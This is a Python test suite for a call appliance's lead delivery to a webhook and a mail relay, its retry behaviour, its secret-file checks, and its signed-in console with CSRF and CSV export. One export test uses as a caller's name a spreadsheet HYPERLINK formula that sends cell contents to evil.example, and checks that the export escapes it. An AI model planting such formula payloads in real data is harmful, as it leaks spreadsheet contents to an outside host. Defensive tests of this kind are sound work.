"""Leads after the call: delivery to a webhook and a mail relay, nothing lost, the console's page.

The receivers are real local servers started by the test (aiohttp, aiosmtpd); the leads
are stored through CallRecords as a call stores them, and the real DeliveryWorker sends
them.  A "restart" stops the worker and the records writer and starts new ones on the same
database, as a service restart does.  tests/test_web_browser.py places a real call.
"""

from __future__ import annotations

import csv
import io
import os
import re
import sqlite3
import subprocess
from pathlib import Path
from typing import Any

import pytest
from aiohttp.test_utils import TestClient, TestServer

from appliance.call.records import CallRecords
from appliance.config import settings_from_dict
from appliance.config.errors import ConfigError
from appliance.leads.config import load_delivery
from appliance.leads.csv_export import safe_cell
from appliance.leads.worker import DeliveryWorker
from appliance.web import metrics
from appliance.web.app import create_app
from appliance.web.auth import hash_password
from leads_receivers import SmtpReceiver, WebhookReceiver, free_port, until

ROOT = Path(__file__).resolve().parent.parent
PASSWORD = "leads console password"
SECRET = "s3cret-shared-with-the-crm"
MAIL_LOGIN = ("appliance", "relay pass word")


def private_file(path: Path, text: str, mode: int = 0o600) -> Path:
    path.write_text(text)
    os.chmod(path, mode)
    return path


def make_settings(tmp_path: Path, *, webhook_url: str = "", smtp_port: int = 0, **leads: Any):  # type: ignore[no-untyped-def]
    raw_leads: dict[str, Any] = {"retry_initial_s": 0.05, "retry_max_s": 0.2, "console_url": "https://pbx.example/",
                                 **leads}
    if webhook_url:
        raw_leads["webhook"] = {"url": webhook_url, "timeout_s": 5.0,
                                "secret_file": str(private_file(tmp_path / "webhook-secret", SECRET + "\n"))}
    if smtp_port:
        raw_leads["mail"] = {"smtp_host": "127.0.0.1", "smtp_port": smtp_port, "from_addr": "pbx@example.com",
                             "to": ["sales@example.com"], "timeout_s": 5.0,
                             "credentials_file": str(private_file(tmp_path / "smtp-login", "\n".join(MAIL_LOGIN) + "\n"))}
    return settings_from_dict({
        "data_dir": str(tmp_path / "data"),
        "models_manifest": str(ROOT / "models" / "manifest.toml"),
        "ari": {"url": "http://127.0.0.1:9", "password": "x"},
        "knowledge": {"source_dir": str(tmp_path / "kb-none")},
        "web": {"password_hash": hash_password(PASSWORD)},
        "leads": raw_leads,
    }, ROOT)


class Service:
    """The service's lead path: the records writer and the delivery worker on one database."""

    def __init__(self, settings) -> None:  # type: ignore[no-untyped-def]
        self.settings = settings
        self.path = settings.data_path / "calls.sqlite3"
        self.worker = DeliveryWorker(load_delivery(settings), self.path, poll_s=0.5, stop_grace_s=5.0)
        self.records = CallRecords(self.path, outbox_channels=settings.leads.channels(), on_lead=self.worker.notify)

    async def start(self) -> Service:
        await self.worker.start()
        return self

    async def stop(self) -> None:
        await self.worker.stop()
        self.records.close()

    def quote_call(self, call_id: str, caller: str, name: str = "John Smith", contact: str = "01762483915") -> int:
        self.records.start_call(call_id, caller)
        lead_id = self.records.add_lead(call_id, name, contact, ["UTM-50"], "Can I get a quote for the UTM-50?").result()
        self.records.end_call(call_id, "answered", "caller_hangup")
        self.records.flush()
        return int(lead_id)


def outbox(path: Path) -> list[dict[str, Any]]:
    conn = sqlite3.connect(path)
    conn.row_factory = sqlite3.Row
    try:
        return [dict(r) for r in conn.execute("SELECT * FROM lead_outbox ORDER BY id")]
    finally:
        conn.close()


def sample(name: str, **labels: str) -> float:
    return metrics.REGISTRY.get_sample_value(name, labels) or 0.0


# -- delivery --------------------------------------------------------------------------------


@pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS:UserWarning")  # a test relay on 127.0.0.1
async def test_a_stored_lead_reaches_the_webhook_signed_and_the_mail_relay(tmp_path: Path) -> None:
    receiver = await WebhookReceiver(SECRET.encode()).start()
    smtp = SmtpReceiver(login=MAIL_LOGIN).start()
    stored_before = sample("appliance_leads_stored_total")
    svc = await Service(make_settings(tmp_path, webhook_url=receiver.url, smtp_port=smtp.port)).start()
    try:
        lead_id = svc.quote_call("1700000000.42", "5557001")
        assert await until(lambda: receiver.leads and smtp.messages, 20), (receiver.requests, smtp.messages)
    finally:
        await svc.stop()
        await receiver.stop()
        smtp.stop()

    # The webhook: JSON, a valid HMAC-SHA256 signature over the body, the idempotency key.
    req = receiver.requests[0]
    assert req["signature_ok"] and req["headers"]["Content-Type"] == "application/json"
    assert req["key"] == f"1700000000.42:{lead_id}:webhook"
    body = receiver.leads[0]
    assert body["event"] == "lead.created" and body["idempotency_key"] == req["key"]
    lead = body["lead"]
    assert (lead["id"], lead["name"], lead["contact"], lead["caller"], lead["products"]) == \
        (lead_id, "John Smith", "01762483915", "5557001", ["UTM-50"])
    assert lead["request"] == "Can I get a quote for the UTM-50?"
    assert lead["call_url"] == "https://pbx.example/calls/1700000000.42"
    # The mail: one plain-text message through the relay, after the relay's login.
    assert len(smtp.messages) == 1 and smtp.logins == ["appliance"]
    msg = smtp.messages[0]
    assert smtp.envelopes[0] == ("pbx@example.com", ["sales@example.com"])
    assert msg["Subject"] == "New lead: John Smith (01762483915)"
    assert msg["Idempotency-Key"] == f"1700000000.42:{lead_id}:mail"
    assert msg.get_content_type() == "text/plain"
    text = msg.get_content()
    assert "01762483915" in text and "5557001" in text and "UTM-50" in text
    assert "https://pbx.example/calls/1700000000.42" in text
    assert [r["state"] for r in outbox(svc.path)] == ["done", "done"]
    assert sample("appliance_leads_stored_total") == stored_before + 1


async def test_a_receiver_down_at_first_gets_the_lead_once_after_a_restart(tmp_path: Path) -> None:
    port = free_port()  # nothing listens yet: connection refused
    receiver = WebhookReceiver(SECRET.encode(), port=port)
    settings = make_settings(tmp_path, webhook_url=receiver.url)
    failures_before = sample("appliance_lead_delivery_failures_total", channel="webhook")

    first = await Service(settings).start()
    lead_id = first.quote_call("call-down", "5557002")
    assert await until(lambda: outbox(first.path)[0]["attempts"] >= 2, 20), outbox(first.path)
    await first.stop()  # the service restarts while the receiver is still down
    row = outbox(first.path)[0]
    assert row["state"] == "pending" and "Connect" in row["last_error"], row
    assert sample("appliance_lead_delivery_failures_total", channel="webhook") >= failures_before + 2

    # The console shows it waiting, with the reason.
    async with console(settings) as client:
        queue = await (await client.get("/api/leads/deliveries")).json()
        assert [(d["lead_id"], d["channel"], d["state"]) for d in queue["deliveries"]] == [(lead_id, "webhook", "pending")]
        assert "Connect" in queue["deliveries"][0]["last_error"]
        page = await (await client.get("/leads")).text()
        assert "retrying" in page and "Connect" in page

    await receiver.start()  # the receiver comes back
    second = await Service(settings).start()
    try:
        assert await until(lambda: outbox(second.path)[0]["state"] == "done", 20), outbox(second.path)
    finally:
        await second.stop()
    assert len(receiver.leads) == 1 and receiver.leads[0]["lead"]["id"] == lead_id
    assert all(r["signature_ok"] for r in receiver.requests)

    # Acknowledged: a third start (and a retry by hand) never sends it again.
    third = await Service(settings).start()
    try:
        assert await third.worker.run_once() == 0
        async with console(settings) as client:
            r = await client.post(f"/api/leads/deliveries/{outbox(third.path)[0]['id']}/retry",
                                  headers={"X-CSRF-Token": client.csrf})  # type: ignore[attr-defined]
            assert r.status == 404
        assert await third.worker.run_once() == 0
    finally:
        await third.stop()
        await receiver.stop()
    assert len(receiver.requests) == 1 and receiver.duplicates == 0


async def test_stopping_mid_send_records_the_acknowledgement_so_it_is_not_sent_again(tmp_path: Path) -> None:
    receiver = await WebhookReceiver(SECRET.encode(), delay_s=0.5).start()  # a slow CRM
    settings = make_settings(tmp_path, webhook_url=receiver.url)
    svc = await Service(settings).start()
    svc.quote_call("call-slow", "5557003")
    assert await until(lambda: receiver.requests, 10)
    await svc.stop()  # while the receiver is still answering
    assert outbox(svc.path)[0]["state"] == "done"
    again = await Service(settings).start()
    try:
        assert await again.worker.run_once() == 0
    finally:
        await again.stop()
        await receiver.stop()
    assert len(receiver.requests) == 1


async def test_a_wrong_secret_is_refused_by_the_receiver_and_retried_with_the_reason(tmp_path: Path) -> None:
    receiver = await WebhookReceiver(b"the CRM's other secret").start()
    settings = make_settings(tmp_path, webhook_url=receiver.url, max_attempts=2)
    svc = await Service(settings).start()
    try:
        svc.quote_call("call-badsig", "5557004")
        assert await until(lambda: outbox(svc.path)[0]["state"] == "failed", 20), outbox(svc.path)
    finally:
        await svc.stop()
        await receiver.stop()
    row = outbox(svc.path)[0]
    assert row["attempts"] == 2 and row["last_error"].startswith("HTTP 401"), row
    assert receiver.leads == []


async def test_mail_over_starttls_with_the_sites_ca(tmp_path: Path) -> None:
    import ssl

    cert, key = tmp_path / "relay.pem", tmp_path / "relay.key"
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=127.0.0.1",
                    "-addext", "subjectAltName=IP:127.0.0.1", "-keyout", str(key), "-out", str(cert)],
                   check=True, capture_output=True)
    ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    ctx.load_cert_chain(cert, key)
    smtp = SmtpReceiver(login=MAIL_LOGIN, tls_context=ctx).start()
    settings = make_settings(tmp_path, smtp_port=smtp.port)
    settings.leads.mail.starttls = True
    settings.leads.mail.ca_file = str(cert)
    settings.agent.language = "ru"
    svc = await Service(settings).start()
    try:
        svc.quote_call("call-tls", "5557005", name="Иван", contact="ivan@example.com")
        assert await until(lambda: smtp.messages, 20), outbox(svc.path)
    finally:
        await svc.stop()
        smtp.stop()
    assert smtp.tls_seen == [True] and smtp.logins == ["appliance"]
    msg = smtp.messages[0]
    assert msg["Subject"] == "Новая заявка: Иван (ivan@example.com)"
    assert "Имя" in msg.get_content() and "Иван" in msg.get_content()


# -- configuration ---------------------------------------------------------------------------


def test_the_webhook_secret_must_be_a_private_file(tmp_path: Path) -> None:
    settings = make_settings(tmp_path, webhook_url="http://127.0.0.1:9/leads")
    secret = Path(settings.leads.webhook.secret_file)
    assert load_delivery(settings).webhook_secret == SECRET.encode()
    os.chmod(secret, 0o644)
    with pytest.raises(ConfigError) as err:
        load_delivery(settings)
    assert str(err.value) == f"leads.webhook.secret_file: {secret} is mode 0644; it holds a secret and must be 0600 " \
                             f"(chmod 600 {secret})"
    secret.unlink()
    with pytest.raises(ConfigError, match="does not exist"):
        load_delivery(settings)
    with pytest.raises(ConfigError, match="leads.webhook.secret_file must be set"):
        settings_from_dict({"leads": {"webhook": {"url": "http://crm.local/hook"}}})
    with pytest.raises(ConfigError, match="leads.mail.to must list"):
        settings_from_dict({"leads": {"mail": {"smtp_host": "relay.local", "from_addr": "a@b.c"}}})
    with pytest.raises(ConfigError, match="must be an http"):
        settings_from_dict({"leads": {"webhook": {"url": "ftp://crm.local", "secret_file": "x"}}})


def test_serve_refuses_to_start_with_a_readable_secret(tmp_path: Path, capsys) -> None:  # type: ignore[no-untyped-def]
    from appliance.cli.main import main

    private_file(tmp_path / "secret", SECRET, 0o640)
    cfg = tmp_path / "appliance.toml"
    cfg.write_text(f'data_dir = "{tmp_path / "data"}"\n[leads.webhook]\nurl = "http://127.0.0.1:9/leads"\n'
                   f'secret_file = "secret"\n')
    assert main(["--config", str(cfg), "serve"]) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert err == [f"appliance: error: leads.webhook.secret_file: {tmp_path / 'secret'} is mode 0640; it holds a "
                   f"secret and must be 0600 (chmod 600 {tmp_path / 'secret'})"]


# -- the console -----------------------------------------------------------------------------


class console:  # noqa: N801 (used as `async with console(settings) as client`)
    """The console app on the settings' database, signed in; ``client.csrf`` holds the token."""

    def __init__(self, settings, sign_in: bool = True) -> None:  # type: ignore[no-untyped-def]
        self.settings, self.sign_in = settings, sign_in

    async def __aenter__(self) -> TestClient:
        self.client = TestClient(TestServer(create_app(self.settings, store=None)))
        await self.client.start_server()
        if self.sign_in:
            html = await (await self.client.get("/login")).text()
            token = re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)  # type: ignore[union-attr]
            r = await self.client.post("/login", data={"password": PASSWORD, "csrf_token": token, "next": "/leads"},
                                       allow_redirects=False)
            assert r.status == 302
            html = await (await self.client.get("/leads")).text()
            self.client.csrf = re.search(r'<meta name="csrf-token" content="([^"]+)"', html).group(1)  # type: ignore[attr-defined,union-attr]
        return self.client

    async def __aexit__(self, *exc: Any) -> None:
        await self.client.close()


def seed(settings, *leads: tuple[str, str, str, str]) -> list[int]:  # type: ignore[no-untyped-def]
    rec = CallRecords(settings.data_path / "calls.sqlite3")
    ids = []
    for call_id, caller, name, contact in leads:
        rec.start_call(call_id, caller)
        ids.append(rec.add_lead(call_id, name, contact, ["UTM-100"], "a quote please").result())
        rec.end_call(call_id, "answered")
    rec.close()
    return ids


async def test_a_formula_as_the_callers_name_is_exported_as_text(tmp_path: Path) -> None:
    settings = make_settings(tmp_path)
    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the quote")'
    seed(settings, ("call-evil", "5550001", evil, "+44 20 7946 0958"),
         ("call-fine", "5550002", "Anna Berg", "anna@example.com"))
    async with console(settings) as client:
        r = await client.get("/leads/export.csv")
        assert r.status == 200 and r.headers["Content-Type"].startswith("text/csv")
        assert "attachment" in r.headers["Content-Disposition"]
        raw = await r.text()
    rows = list(csv.DictReader(io.StringIO(raw.lstrip("\ufeff"))))
    by_call = {row["call_id"]: row for row in rows}
    assert by_call["call-evil"]["name"] == "'" + evil  # shown as text, the formula never runs
    assert by_call["call-evil"]["contact"] == "'+44 20 7946 0958"
    assert by_call["call-fine"]["name"] == "Anna Berg" and by_call["call-fine"]["caller"] == "5550002"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
    assert raw.splitlines()[1].startswith('"'), "every cell is quoted"
    for start in ("=", "+", "-", "@", "\t", "\r", "  =1+1"):
        assert safe_cell(start + "1+1").startswith("'")
    assert safe_cell("John") == "John" and safe_cell(42) == "42"


async def test_status_changes_need_sign_in_and_csrf_and_record_who_and_when(tmp_path: Path) -> None:
    settings = make_settings(tmp_path)
    lead_id, other = seed(settings, ("call-a", "5550011", "John", "0176"), ("call-b", "5550012", "Anna", "0177"))
    async with console(settings, sign_in=False) as anon:
        r = await anon.post(f"/api/leads/{lead_id}/status", json={"status": "contacted"})
        assert r.status == 401
        r = await anon.post(f"/leads/{lead_id}/status", data={"status": "contacted"}, allow_redirects=False)
        assert r.status == 401
        assert (await anon.get("/api/leads")).status == 401
        assert (await anon.get("/leads/export.csv", allow_redirects=False)).status == 302
    async with console(settings) as client:
        r = await client.post(f"/api/leads/{lead_id}/status", json={"status": "contacted"})
        assert r.status == 403 and "CSRF" in (await r.json())["error"]
        r = await client.post(f"/leads/{lead_id}/status", data={"status": "contacted", "csrf_token": "forged"})
        assert r.status == 403
        assert (await (await client.get(f"/api/leads/{lead_id}")).json())["status"] == "new"

        # The page's own form (with the token) moves it on and comes back to the filtered list.
        r = await client.post(f"/leads/{lead_id}/status", allow_redirects=False,
                              data={"status": "contacted", "csrf_token": client.csrf, "back": "/leads?status=new"})  # type: ignore[attr-defined]
        assert r.status == 303 and r.headers["Location"] == "/leads?status=new"
        r = await client.post(f"/api/leads/{lead_id}/status", json={"status": "closed"},
                              headers={"X-CSRF-Token": client.csrf})  # type: ignore[attr-defined]
        assert r.status == 200
        lead = await r.json()
        assert lead["status"] == "closed" and lead["status_by"] == "admin"
        assert [(h["from_status"], h["to_status"], h["by_user"], h["by_ip"]) for h in lead["history"]] == \
            [("new", "contacted", "admin", "127.0.0.1"), ("contacted", "closed", "admin", "127.0.0.1")]
        assert all(h["at"] > 0 for h in lead["history"])
        r = await client.post(f"/api/leads/{lead_id}/status", json={"status": "won"},
                              headers={"X-CSRF-Token": client.csrf})  # type: ignore[attr-defined]
        assert r.status == 400 and "not one of new, contacted, closed" in (await r.json())["error"]
        r = await client.post("/api/leads/999/status", json={"status": "closed"},
                              headers={"X-CSRF-Token": client.csrf})  # type: ignore[attr-defined]
        assert r.status == 404

        # Filters: by status and date (the page, the API and the export agree).
        closed = await (await client.get("/api/leads?status=closed")).json()
        assert [x["id"] for x in closed["leads"]] == [lead_id]
        fresh = await (await client.get("/api/leads?status=new")).json()
        assert [x["id"] for x in fresh["leads"]] == [other]
        assert (await (await client.get("/api/leads?date_to=2000-01-01")).json())["total"] == 0
        r = await client.get("/api/leads?date_from=yesterday")
        assert r.status == 400 and "not a date" in (await r.json())["error"]
        exported = await (await client.get("/leads/export.csv?status=closed")).text()
        assert [row["id"] for row in csv.DictReader(io.StringIO(exported.lstrip("\ufeff")))] == [str(lead_id)]
        page = await (await client.get("/leads")).text()
        assert 'href="/calls/call-a"' in page and "5550011" in page and "admin" in page


async def test_the_leads_page_with_no_channel_configured(tmp_path: Path) -> None:
    settings = make_settings(tmp_path)
    assert settings.leads.channels() == ()
    seed(settings, ("call-x", "5550021", "Olga", "0123"))
    assert outbox(settings.data_path / "calls.sqlite3") == [], "no channel: nothing queued"
    async with console(settings) as client:
        page = await (await client.get("/leads")).text()
        assert "Olga" in page and "No delivery channel is configured" in page
        spec = await (await client.get("/api/openapi.json")).json()
        assert "post" in spec["paths"]["/api/leads/{lead_id}/status"]
